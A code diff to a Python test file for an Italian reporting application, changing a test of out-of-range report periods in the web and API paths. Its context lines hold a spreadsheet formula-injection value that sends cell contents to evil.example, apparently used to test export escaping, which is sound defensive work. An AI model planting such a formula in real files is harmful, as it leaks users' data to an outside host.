@@ -16,6 +16,7 @@ from amal.errors import DomainError
 from amal.groups.services import create_group, enrol
 from amal.reports.periods import parse_period
 from amal.runtime import state
+from amal.testing import finished_run
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Apri registro")'
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
@@ -101,15 +102,16 @@ def test_extreme_periods_are_a_clear_error(text_: str, kind: str) -> None:
     assert "2000-2099" in error.value.message
 
 
-def test_extreme_periods_in_web_and_api(client, login, ctx) -> None:
+def test_extreme_periods_in_web_and_api(app, client, login, ctx) -> None:
     """#7: these answered 500."""
     _, secret = create_token(ctx, "r", "monza-brianza", Role.COORDINATOR)
     runs = "/api/v1/territories/monza-brianza/reports/provincia-trimestrale/runs"
-    run = client.post(
-        runs, json={"period": "9999-Q4"}, headers={"Authorization": f"Bearer {secret}"}
+    headers = {"Authorization": f"Bearer {secret}"}
+    run = finished_run(
+        app, client, client.post(runs, json={"period": "9999-Q4"}, headers=headers), headers
     )
-    assert run.status_code == 201 and run.json["status"] == "failed"
-    assert "2000-2099" in run.json["error"]
+    assert run["status"] == "failed"
+    assert "2000-2099" in run["error"]
     login("coordinator", "monza-brianza")
     page = client.get("/t/monza-brianza/reports/provincia-trimestrale?period=0000-Q1")
     assert page.status_code == 200 and "Scrivi il periodo come" in page.get_data(as_text=True)
